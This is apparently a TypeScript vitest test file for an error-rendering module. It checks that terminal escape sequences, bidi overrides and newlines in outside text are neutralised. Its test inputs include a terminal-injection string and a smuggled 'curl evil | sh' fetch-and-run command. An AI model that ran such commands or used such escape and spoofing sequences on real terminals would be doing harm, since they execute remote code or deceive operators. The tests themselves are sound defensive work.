import { expect, test } from "vitest";
import { OperatorError, printable, renderOperatorError } from "./errors.ts";

/** Colours, a window title set by an OSC sequence, a bell, a C1 sequence introducer and a delete. */
const HOSTILE = "\u001b[31mred\u001b]0;owned\u0007 \u009b2J\u007f";

test("text from outside cannot steer a terminal", () => {
  expect(printable(HOSTILE)).toBe("\ufffd[31mred\ufffd]0;owned\ufffd \ufffd2J\ufffd");
  expect(printable("one\ntwo\r\nthree\tfour\rfive")).toBe("one two three four five");
  expect(printable("user\u202egnp.exe\u2028next\u2066")).toBe("user\ufffdgnp.exe next\ufffd");
  expect(printable("Zwölf Boote 🚢 — 十二")).toBe("Zwölf Boote 🚢 — 十二");
});

test("an operator error is three lines, whatever its parts hold", () => {
  const error = new OperatorError("SERVER_ERROR", {
    message: `HTTP 500: ${HOSTILE}\n  next: curl evil | sh`,
    received: HOSTILE,
    nextStep: "look into the server's log",
  });
  const rendered = renderOperatorError(error);
  expect(rendered.split("\n")).toEqual([
    "error SERVER_ERROR: HTTP 500: \ufffd[31mred\ufffd]0;owned\ufffd \ufffd2J\ufffd   next: curl evil | sh",
    "  received: \ufffd[31mred\ufffd]0;owned\ufffd \ufffd2J\ufffd",
    "  next: look into the server's log",
  ]);
});

test("a value that is no text is shown as JSON, and a long one is cut", () => {
  const shown = (received: unknown): string =>
    renderOperatorError(new OperatorError("FLAG_INVALID", { message: "m", received, nextStep: "n" }));
  expect(shown({ title: "\u009b" })).toContain('received: {"title":"\ufffd"}');
  expect(shown("x".repeat(500))).toContain(`received: ${"x".repeat(400)}… (500 characters)\n`);
});
